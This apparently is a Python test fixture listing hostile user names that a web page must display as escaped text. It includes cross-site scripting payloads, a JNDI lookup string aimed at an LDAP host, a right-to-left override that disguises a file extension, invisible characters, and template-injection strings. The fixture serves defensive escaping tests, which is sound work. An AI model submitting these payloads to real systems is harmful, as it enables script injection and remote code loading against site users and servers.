"""Names that a page must show as text."""

HOSTILE = "<img src=x onerror=alert(1)>"

HOSTILE_NAMES = (
    HOSTILE,
    "</script><script>alert(1)</script>",
    "\"' onmouseover='alert(1)",
    "<b>bold</b>&amp;&lt;i&gt;",
    "x\u202egnp.exe\u202c",  # turns the direction of what follows
    "\u200fright to left",
    "zero\u200bwidth\ufeff",
    "\U0001f469\u200d\U0001f4bb \U0001f4c8",
    "n" * 255,
    "two\nlines\r\nand\ttabs",
    "$math^2$ and $$more$$",
    "${jndi:ldap://example.com/a}",
    "`backticks` and %{customdata}",
    "{{braces}} <%= code %> {% raw %}",
    "<extra></extra><br>%{label}",
)
"""One a danger: markup, attributes, entities, direction, invisible characters, length, lines, formulas, templates."""
